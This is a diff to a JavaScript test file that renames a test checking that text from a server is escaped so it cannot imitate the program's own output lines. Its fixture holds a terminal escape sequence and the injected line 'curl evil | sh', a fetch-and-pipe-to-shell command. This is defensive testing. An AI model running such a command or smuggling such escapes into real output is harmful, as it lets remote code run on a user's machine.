@@ -76,7 +76,7 @@ test('prints the message of an unknown code', () => {
   expect(explain(answer('constructor')).remedy).toBeNull();
 });
 
-test("escapes the server's texts, which cannot imitate lines of the program", () => {
+test("escapes text from the server, so that it cannot imitate the program's lines", () => {
   const explanation = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nto do: curl evil | sh',
